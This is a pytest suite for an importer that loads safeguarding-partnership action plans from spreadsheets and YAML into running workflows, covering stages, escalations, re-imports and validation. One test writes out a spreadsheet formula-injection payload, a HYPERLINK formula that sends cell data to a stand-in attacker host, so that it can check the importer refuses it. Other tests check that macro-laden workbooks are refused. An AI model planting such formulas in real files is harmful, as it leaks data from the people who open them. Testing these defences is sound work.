"""Importing action plans: the whole file checked first with every problem named, then each
recommendation started where its log says it stands; re-imports start nothing; changes apply."""

from __future__ import annotations

import asyncio
import contextlib
import copy
import uuid
from datetime import date, timedelta
from pathlib import Path

import pytest

from devtools import plan_files as pf
from gateway.workflows import recommendation_status
from models.payloads import EscalationLevel, Stage
from plans.apply import import_plan
from plans.sheets import MAX_FILE_BYTES, read_plan_file
from plans.validate import check_plan, parse_date
from store.db import session_scope
from store.read_model import registry
from tests.helpers import drain_digests, eventually, sent, today
from workflows.recommendation import RecommendationWorkflow


def problems_of(path: Path, *, on: date, stored=([], [], [])) -> list[str]:
    sheets, problems = read_plan_file(path)
    if problems:
        return [str(p) for p in problems]
    _, problems = check_plan(sheets, stored=stored, today=on)
    return [str(p) for p in problems]


async def run_import(env, settings, path: Path, *, on: date, **options):
    sheets, problems = read_plan_file(path)
    assert problems == []
    with session_scope(settings.database_url) as session:
        stored = registry(session=session)
    plan, problems = check_plan(sheets, stored=stored, today=on)
    assert [str(p) for p in problems] == []
    return await import_plan(
        plan, client=env.client, database_url=settings.database_url, task_queue=settings.task_queue, **options
    )


async def close_all(env, refs, by=pf.SPONSOR):
    """Withdraw what a test started, so the shared time-skipping clock stays free."""

    async def close(ref: str) -> None:
        handle = env.client.get_workflow_handle_for(RecommendationWorkflow.run, f"recommendation-{ref}")
        with contextlib.suppress(Exception):  # already closed
            await handle.execute_update(RecommendationWorkflow.withdraw, {"by": by, "reason": "test finished"})
        with contextlib.suppress(Exception):
            await handle.result()

    await asyncio.gather(*(close(ref) for ref in refs))


@pytest.fixture
def tag() -> str:
    return uuid.uuid4().hex[:6].upper()


def refs(tag: str) -> list[str]:
    return [f"IMP{tag}-{n}" for n in range(1, 6)]


@pytest.fixture
async def imported(env, settings, worker, tmp_path):
    """Run an import on the time-skipping server; close everything it started afterwards."""
    refs: list[str] = []

    async def run(path: Path, **options):
        report = await run_import(env, settings, path, on=await today(env), **options)
        refs.extend(report.started)
        return report

    yield run
    await close_all(env, refs)
    await drain_digests(env, settings.database_url)


# --- starting where the log stands ----------------------------------------------------------


@pytest.mark.parametrize("writer", [pf.write_yaml, pf.write_xlsx])
async def test_each_recommendation_starts_where_its_log_says(env, settings, imported, tmp_path, tag, writer):
    day = await today(env)
    path = writer(pf.plan(day, tag), tmp_path / ("plan" + (".yaml" if writer is pf.write_yaml else ".xlsx")))
    report = await imported(path)
    assert sorted(report.started) == refs(tag)
    stages = {ref: (await recommendation_status(env.client, ref)).stage for ref in report.started}
    assert stages == {
        f"IMP{tag}-1": Stage.action,
        f"IMP{tag}-2": Stage.dissemination_plan,
        f"IMP{tag}-3": Stage.sign_off,
        f"IMP{tag}-4": Stage.review,
        f"IMP{tag}-5": Stage.action,
    }
    one = await recommendation_status(env.client, f"IMP{tag}-1")
    assert [a.status.value for a in one.actions] == ["assigned", "acknowledged"]
    two = await recommendation_status(env.client, f"IMP{tag}-2")
    assert two.actions[0].evidence == "Briefings held; register on file"
    assert two.actions[0].completed_at.date() == day - timedelta(days=5)
    # The registry came in with the plan.
    with session_scope(settings.database_url) as session:
        agencies, people, boards = registry(session=session)
    assert {b.name for b in boards} == {"Adults Board"} and len(people) == 9 and len(agencies) == 3


async def test_an_overdue_action_is_placed_on_its_rung_with_one_notice(env, settings, imported, tmp_path, tag):
    day = await today(env)
    await imported(pf.write_yaml(pf.plan(day, tag), tmp_path / "plan.yaml"))
    # 20 days overdue: past the agency lead's rung (7 days) and the sponsoring board's (14).
    await eventually(lambda: [r for r in sent(settings.database_url, f"IMP{tag}-5") if r.kind == "board_escalation"])
    status = await recommendation_status(env.client, f"IMP{tag}-5")
    assert status.actions[0].escalation_level is EscalationLevel.sponsoring_board
    rows = [row for row in sent(settings.database_url, f"IMP{tag}-5")]
    kinds = sorted(row.kind for row in rows)
    # No task email for an action already past due; one notice, at the rung reached.
    assert "task_assigned" not in kinds
    assert kinds.count("board_escalation") == 1 and "agency_lead_copy" not in kinds
    # Owners of new open actions were sent their task; complete ones nothing. (Each workflow
    # stores its own first transition: IMP-1's may land after IMP-5's, so it is waited for.)
    # The acknowledged one is told it is now followed here, not asked to acknowledge again.
    await eventually(
        lambda: (
            sorted((r.kind, r.recipients[0]) for r in sent(settings.database_url, f"IMP{tag}-1"))
            == [("task_assigned", pf.NURSE), ("task_under_way", pf.OFFICER)]
        )
    )
    assert "task_assigned" not in [r.kind for r in sent(settings.database_url, f"IMP{tag}-2")]


async def test_a_csv_takes_its_registry_from_the_store(env, settings, imported, tmp_path, tag):
    day = await today(env)
    # The registry comes in with one recommendation of its own (a file with none is refused).
    registry_only = pf.plan(day, tag + "R")
    registry_only.update(Recommendations=registry_only["Recommendations"][3:4], Actions=[], Plans=[])
    await imported(pf.write_yaml(registry_only, tmp_path / "r.yaml"))
    rows = pf.plan(day, tag)
    report = await imported(pf.write_csv(rows, tmp_path / "plan.csv"))
    assert len(report.started) == 5
    # A CSV has no Plans sheet: the complete one waits for its plans.
    assert (await recommendation_status(env.client, f"IMP{tag}-3")).stage is Stage.dissemination_plan


# --- re-imports and changes -----------------------------------------------------------------


async def test_importing_the_same_file_again_starts_nothing(env, settings, imported, tmp_path, tag):
    day = await today(env)
    path = pf.write_yaml(pf.plan(day, tag), tmp_path / "plan.yaml")
    await imported(path)
    runs = {ref: (await env.client.get_workflow_handle(f"recommendation-{ref}").describe()).run_id for ref in refs(tag)}
    again = await imported(path)
    assert again.started == [] and sorted(again.unchanged) == refs(tag)
    assert again.changes == {}
    for ref, run_id in runs.items():
        assert (await env.client.get_workflow_handle(f"recommendation-{ref}").describe()).run_id == run_id


async def test_a_changed_file_reports_per_ref_and_applies_with_apply_changes(env, settings, imported, tmp_path, tag):
    day = await today(env)
    rows = pf.plan(day, tag)
    await imported(pf.write_yaml(rows, tmp_path / "plan.yaml"))
    edited = copy.deepcopy(rows)
    first, second = edited["Actions"][0], edited["Actions"][1]
    first["owner_email"] = pf.DEPUTY  # IMP-1 A1 reassigned
    second["due_date"] = (day + timedelta(days=75)).isoformat()  # IMP-1 A2 new date
    edited["Actions"].append({**first, "action_id": "A3", "owner_email": pf.NURSE})  # IMP-1 new action
    edited["Recommendations"][3] = {**edited["Recommendations"][3], "title": "A new title"}  # IMP-4
    path = pf.write_yaml(edited, tmp_path / "changed.yaml")

    dry = await imported(path)
    assert dry.changes[f"IMP{tag}-1"] == [
        f"action A1: owner {pf.NURSE} -> {pf.DEPUTY}",
        f"action A2: due {day + timedelta(days=60)} -> {day + timedelta(days=75)}",
        "new action(s) A3",
    ]
    assert dry.changes[f"IMP{tag}-4"] == ["title differs from the running recommendation (change it by hand)"]
    assert dry.applied == {}
    assert [a.owner for a in (await recommendation_status(env.client, f"IMP{tag}-1")).actions] == [pf.NURSE, pf.OFFICER]

    applied = await imported(path, apply_changes=True)
    assert applied.applied[f"IMP{tag}-1"] == dry.changes[f"IMP{tag}-1"]
    assert applied.not_applied[f"IMP{tag}-4"] == dry.changes[f"IMP{tag}-4"]
    status = await recommendation_status(env.client, f"IMP{tag}-1")
    assert [(a.action_id, a.owner, a.due) for a in status.actions] == [
        ("A1", pf.DEPUTY, day + timedelta(days=40)),
        ("A2", pf.OFFICER, day + timedelta(days=75)),
        ("A3", pf.NURSE, day + timedelta(days=40)),
    ]
    assert (await imported(path)).changes.get(f"IMP{tag}-1") is None  # now in step


async def test_a_dry_run_starts_nothing(env, settings, imported, tmp_path, tag):
    day = await today(env)
    report = await imported(pf.write_yaml(pf.plan(day, tag), tmp_path / "plan.yaml"), dry_run=True)
    assert len(report.started) == 5 and report.dry_run
    report.started.clear()  # nothing to close
    with pytest.raises(Exception, match="no recommendation"):
        await recommendation_status(env.client, f"IMP{tag}-1")


# --- refusing bad files ---------------------------------------------------------------------

DAY = date(2026, 3, 2)


def broken(tmp_path: Path, edit, name: str = "plan.yaml", writer=pf.write_yaml) -> Path:
    rows = pf.plan(DAY)
    edit(rows)
    return writer(rows, tmp_path / name)


def test_every_problem_is_reported_at_once_with_sheet_row_and_column(tmp_path):
    def edit(rows):
        rows["Recommendations"][0]["board"] = "Nonexistent Board"  # unknown board
        rows["Recommendations"][1]["ref"] = "IMP-1"  # duplicate ref
        rows["Recommendations"][2]["source_date"] = "next Tuesday"  # not a date
        rows["Recommendations"][3]["title"] = ""  # missing cell
        rows["Actions"][4]["owner_email"] = "stranger@elsewhere.example.org"  # owner not in People
        rows["Plans"][0]["ends"] = (DAY - timedelta(days=300)).isoformat()  # ends before it starts

    assert problems_of(broken(tmp_path, edit), on=DAY) == [
        "Recommendations, row 1, board: unknown board 'Nonexistent Board'",
        "Recommendations, row 2, ref: the ref 'IMP-1' is already on row 1",
        "Recommendations, row 3, source_date: 'next Tuesday' is not a date (use 2023-04-01 or 01/04/2023)",
        "Recommendations, row 4, title: is required",
        "Actions, row 3, recommendation_ref: no recommendation 'IMP-2' in Recommendations",  # its ref was changed
        "Actions, row 5, owner_email: the action owner stranger@elsewhere.example.org is not in People: name a registered person",
        f"Plans, row 1, ends: {DAY - timedelta(days=300)} is before starts {DAY + timedelta(days=7)}",
    ]


@pytest.mark.parametrize(
    ("edit", "expected"),
    [
        (lambda r: r["Actions"][0].update(due_date="2019-01-01"), "Actions, row 1, due_date: 2019-01-01 is before"),
        (lambda r: r["Actions"][0].update(status="finished"), "Actions, row 1, status: 'finished' must be assigned"),
        (lambda r: r["Actions"][2].update(evidence=""), "Actions, row 3, evidence: is required for a complete action"),
        (lambda r: r["Actions"][0].update(agency="MI5"), "Actions, row 1, agency: unknown agency 'MI5'"),
        (lambda r: r["People"][0].update(roles="board_sponsor:Kids Board"), "People, row 1, roles: unknown board"),
        (lambda r: r["People"][2].update(roles="owner"), "People, roles: nobody has the role assurance_member"),
        (lambda r: r["Boards"][0].update(board_after="P3D"), "Boards, row 1: agency_lead_after must be shorter"),
        (lambda r: r["Boards"][0].update(sponsor_email="who@x.example.org"), "Boards, row 1, sponsor_email: who@"),
        (lambda r: r["Actions"][0].update(recommendation_ref="IMP-9"), "Actions, row 1, recommendation_ref: no rec"),
        (lambda r: r["Recommendations"][0].update(source_kind="gossip"), "Recommendations, row 1, source_kind: Inp"),
    ],
)
def test_each_kind_of_problem_is_named(tmp_path, edit, expected):
    found = problems_of(broken(tmp_path, edit), on=DAY)
    assert any(problem.startswith(expected) for problem in found), found


def test_formula_cells_are_refused_in_a_csv(tmp_path):
    rows = pf.plan(DAY)
    rows["Actions"][0]["description"] = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    rows["Actions"][1]["success_measure"] = "@SUM(1+1)"
    stored = _stored(rows)
    path = pf.write_csv(rows, tmp_path / "plan.csv")
    assert problems_of(path, on=DAY, stored=stored) == [
        "CSV, row 2, description: formulas are not accepted: type the value",
        "CSV, row 3, success_measure: formulas are not accepted: type the value",
    ]


def test_formula_cells_are_refused_in_a_workbook(tmp_path):
    from openpyxl import load_workbook

    path = pf.write_xlsx(pf.plan(DAY), tmp_path / "plan.xlsx")
    workbook = load_workbook(path)
    workbook["Actions"]["C2"] = "=1+1"
    workbook.save(path)
    assert problems_of(path, on=DAY) == ["Actions, row 2, description: formulas are not accepted: type the value"]


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("plan.xlsx", b"ref,title\nA,B\n", "plan.xlsx: this is not an Excel workbook (.xlsx), whatever its name says"),
        ("plan.csv", b"PK\x03\x04rest-of-a-zip", "plan.csv: this is not a text file, whatever its name says"),
        ("plan.csv", b"ref\n\xff\xfe", "plan.csv: this is not UTF-8 text (byte 4); save it as UTF-8"),
        (
            "plan.xlsm",
            b"PK\x03\x04",
            "plan.xlsm: .xlsm files are not accepted (macros or an old format): save as .xlsx",
        ),
        (
            "plan.yaml",
            b"- just\n- a list\n",
            "plan.yaml: the YAML file must be a mapping of sheet names to lists of rows",
        ),
        ("plan.txt", b"hello", "plan.txt: use a .xlsx, .csv or .yaml file"),
    ],
)
def test_a_file_that_is_not_what_its_name_says_is_refused(tmp_path, name, content, expected):
    path = tmp_path / name
    path.write_bytes(content)
    assert problems_of(path, on=DAY) == [expected]


def test_a_workbook_with_macros_is_refused(tmp_path):
    import zipfile

    path = pf.write_xlsx(pf.plan(DAY), tmp_path / "plan.xlsx")
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("xl/vbaProject.bin", b"\x00macro")
    assert problems_of(path, on=DAY) == ["plan.xlsx: the workbook contains macros; remove them and save as .xlsx"]


def test_a_five_megabyte_file_is_refused(tmp_path):
    path = tmp_path / "huge.csv"
    path.write_bytes(b"ref,title\n" + b"x" * (5 * 1024 * 1024))
    assert MAX_FILE_BYTES < path.stat().st_size
    assert problems_of(path, on=DAY) == ["huge.csv: the file is 5.0 MB; the limit is 4 MB"]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("2023-04-01", date(2023, 4, 1)),
        ("01/04/2023", date(2023, 4, 1)),
        ("1/4/2023", date(2023, 4, 1)),
        (45017, date(2023, 4, 1)),  # Excel's serial for 1 April 2023
        (45017.0, date(2023, 4, 1)),
        ("45017", date(2023, 4, 1)),
        ("31/02/2023", None),
        ("April Fool's", None),
        (True, None),
    ],
)
def test_dates_in_the_forms_spreadsheets_produce(value, expected):
    assert parse_date(value) == expected


def test_rebasing_moves_every_date_by_the_same_days(tmp_path):
    path = pf.write_yaml(pf.plan(date(2023, 4, 1)), tmp_path / "plan.yaml")
    sheets, _ = read_plan_file(path)
    shift = DAY - date(2023, 4, 1)
    plan, problems = check_plan(sheets, today=DAY, shift=shift)
    assert problems == []
    one = next(r.start for r in plan.recommendations if r.start.recommendation.ref == "IMP-1")
    assert one.actions[0].due == DAY + timedelta(days=40)
    assert one.recommendation.source_date == DAY - timedelta(days=200)


def _stored(rows):
    from plans.sheets import Sheet

    sheets = {
        name: Sheet(name, list(rows[name][0]), [(i + 1, row) for i, row in enumerate(rows[name])])
        for name in ("Agencies", "People", "Boards")
    }
    plan, problems = check_plan({**sheets, "Recommendations": Sheet("Recommendations")}, today=DAY)
    return plan.agencies, plan.people, plan.boards


# --- the example partnership ----------------------------------------------------------------

EXAMPLE_DIR = Path(__file__).resolve().parents[2] / "examples"
ANCHOR = date(2023, 4, 1)


def example_plan(suffix: str, on: date):
    sheets, problems = read_plan_file(EXAMPLE_DIR / f"mk-together-2022-23{suffix}")
    assert problems == []
    plan, problems = check_plan(sheets, today=on, shift=on - ANCHOR)
    assert [str(p) for p in problems] == []
    return plan


def test_the_example_workbook_is_the_example_yaml():
    on = date(2026, 11, 25)
    from_yaml, from_xlsx = example_plan(".yaml", on), example_plan(".xlsx", on)
    assert [r.start for r in from_xlsx.recommendations] == [r.start for r in from_yaml.recommendations]
    assert [p.model_dump() for p in from_xlsx.people] == [p.model_dump() for p in from_yaml.people]
    assert from_xlsx.cycles == from_yaml.cycles and len(from_yaml.cycles) == 3
    assert len(from_yaml.recommendations) >= 25 and len(from_yaml.boards) == 5


async def test_the_example_loads_as_a_live_year(env, settings, worker):
    on = await today(env)
    plan = example_plan(".yaml", on)
    report = await import_plan(
        plan, client=env.client, database_url=settings.database_url, task_queue=settings.task_queue
    )
    member = next(p.email for p in plan.people if "assurance_member" in p.role_list())
    try:
        assert len(report.started) == len(plan.recommendations)
        statuses = [await recommendation_status(env.client, ref) for ref in report.started]
        stages = {s.stage for s in statuses}
        assert {Stage.review, Stage.action, Stage.in_progress, Stage.dissemination_plan, Stage.sign_off,
                Stage.cascade, Stage.audit} <= stages  # fmt: skip
        actions = [a for s in statuses for a in s.actions]
        assert {a.status.value for a in actions} == {"assigned", "acknowledged", "complete"}

        async def levels() -> set[EscalationLevel]:
            seen = set()
            for ref in report.started:
                seen |= {a.escalation_level for a in (await recommendation_status(env.client, ref)).actions}
            return seen

        # Overdue actions at every rung of the ladder, each told once at the rung it reached.
        loop = asyncio.get_running_loop()
        deadline = loop.time() + 20
        while not {*EscalationLevel} - {EscalationLevel.none} <= (found := await levels()):
            assert loop.time() < deadline, found
            await asyncio.sleep(0.2)
        await _example_cascades_stand_at_every_point(env, settings, {s.ref: s for s in statuses})
        _example_measures_stand_as_the_report_has_them({s.ref: s for s in statuses})
    finally:
        await close_all(env, report.started, by=member)
        await drain_digests(env, settings.database_url)


async def _example_cascades_stand_at_every_point(env, settings, by_ref) -> None:
    """Waiting and partly reached, overdue at each rung of the silence ladder, complete; the plans
    awaiting sign-off credible but for the one left gappy on purpose."""
    assert by_ref["MKT-2023-22"].stage is Stage.audit  # every agency confirmed
    assert by_ref["MKT-2023-22"].reach_percent >= 80 and not by_ref["MKT-2023-22"].cascade_short
    live = ("MKT-2023-14", "MKT-2023-17", "MKT-2023-30", "MKT-2023-32")
    assert {by_ref[ref].stage for ref in live} == {Stage.cascade}
    waiting = by_ref["MKT-2023-32"]
    assert waiting.cascade_short and not waiting.cascade_overdue
    assert [c.status.value for c in waiting.cascade] == ["confirmed", "waiting", "confirmed", "waiting", "waiting"]
    assert {ref: len(by_ref[ref].plan_gaps) for ref in ("MKT-2023-23", "MKT-2023-35", "MKT-2023-26")} == {
        "MKT-2023-23": 0, "MKT-2023-35": 0, "MKT-2023-26": 3
    }  # fmt: skip
    assert {by_ref[ref].stage for ref in ("MKT-2023-23", "MKT-2023-35", "MKT-2023-26")} == {Stage.sign_off}
    rungs = {
        "MKT-2023-17": EscalationLevel.owner,
        "MKT-2023-14": EscalationLevel.sponsoring_board,
        "MKT-2023-30": EscalationLevel.assurance_board,
    }

    async def reached() -> dict[str, EscalationLevel]:
        return {ref: (await recommendation_status(env.client, ref)).escalation_level for ref in rungs}

    loop = asyncio.get_running_loop()
    deadline = loop.time() + 20
    while (found := await reached()) != rungs:
        assert loop.time() < deadline, found
        await asyncio.sleep(0.2)
    assert all(by_ref[ref].cascade_overdue for ref in rungs)
    # One notice each, at the rung reached; the leads still to confirm before cascade_by are asked.
    notices = {"MKT-2023-17": "cascade_overdue", "MKT-2023-14": "board_escalation",
               "MKT-2023-30": "assurance_escalation"}  # fmt: skip
    for ref, kind in notices.items():
        rows = await eventually(
            lambda ref=ref, kind=kind: [r for r in sent(settings.database_url, ref) if r.kind == kind]
        )
        assert len(rows) == 1 and "cascade_task" not in [r.kind for r in sent(settings.database_url, ref)]
    silent = await eventually(
        lambda: [r for r in sent(settings.database_url, "MKT-2023-17") if r.kind == "cascade_overdue"]
    )
    assert sorted(silent[0].recipients) == ["chris.mensah@cnwl.example.org", "james.cole@police.example.org"]
    asked = await eventually(
        lambda: [r for r in sent(settings.database_url, "MKT-2023-32") if r.kind == "cascade_task"]
    )
    assert sorted(r for row in asked for r in row.recipients) == [
        "chris.mensah@cnwl.example.org", "fiona.grant@icb.example.org", "priya.shah@mkcc.example.org"
    ]  # fmt: skip


def _example_measures_stand_as_the_report_has_them(by_ref) -> None:
    """The workflows judge the example's measures as the report describes them: some on track,
    some off, one with no reading yet; the audit that waits weighs one on track."""
    tracks = {(ref, m.measure_id): m.on_track.value for ref, s in by_ref.items() for m in s.measures}
    assert tracks[("MKT-2023-11", "force-rate")] == "on_track"
    assert tracks[("MKT-2023-09", "self-harm")] == "off_track"
    assert tracks[("MKT-2023-05", "isp-in-15-days")] == "off_track"
    assert tracks[("MKT-2023-30", "guidance-followed")] == "no_data"
    assert tracks[("MKT-2023-22", "knife-messages")] == "on_track"
    assert len(by_ref["MKT-2023-09"].measures[0].readings) == 7


def test_people_are_named_only_in_a_role_that_fits_as_decisions_are(tmp_path):
    """An action owner without the owner role and a plan auditor without the auditor role are refused by the importer with the decisions' own rule."""

    def edit(rows):
        rows["Actions"][0]["owner_email"] = pf.MEMBER  # registered, as an Assurance Board member only
        rows["Plans"][0]["auditor"] = pf.NURSE  # registered, as an owner only

    assert problems_of(broken(tmp_path, edit), on=DAY) == [
        f"Actions, row 1, owner_email: the action owner {pf.MEMBER} is in People, but without the role owner",
        f"Plans, row 1, auditor: the auditor {pf.NURSE} is in People, but without the role assurance_member or auditor",
    ]


async def test_a_re_import_with_changed_roles_reaches_every_running_recommendation(
    env, settings, imported, tmp_path, tag
):
    """Re-importing a plan in which an Assurance Board member lost the role tells every open recommendation, and the workflow no longer counts them."""
    from gateway.workflows import reader_status
    from tests.helpers import stored_row

    day = await today(env)
    rows = pf.plan(day, tag)
    report = await imported(pf.write_yaml(rows, tmp_path / "plan.yaml"))
    await eventually(lambda: all(stored_row(settings.database_url, ref) for ref in report.started))
    assert "assurance_member" in (await reader_status(env.client, f"IMP{tag}-4", pf.MEMBER)).roles
    member = next(p for p in rows["People"] if p["email"] == pf.MEMBER)
    member["roles"] = "owner"
    rows["People"].append(
        {"email": "new.member@icb.example.org", "name": "New", "agency": pf.ICB, "roles": "assurance_member"}
    )
    again = await imported(pf.write_yaml(rows, tmp_path / "changed.yaml"))
    assert sorted(again.roles_updated) == sorted(report.started)
    assert "assurance_member" not in (await reader_status(env.client, f"IMP{tag}-4", pf.MEMBER)).roles
    assert "assurance_member" in (await reader_status(env.client, f"IMP{tag}-4", "new.member@icb.example.org")).roles
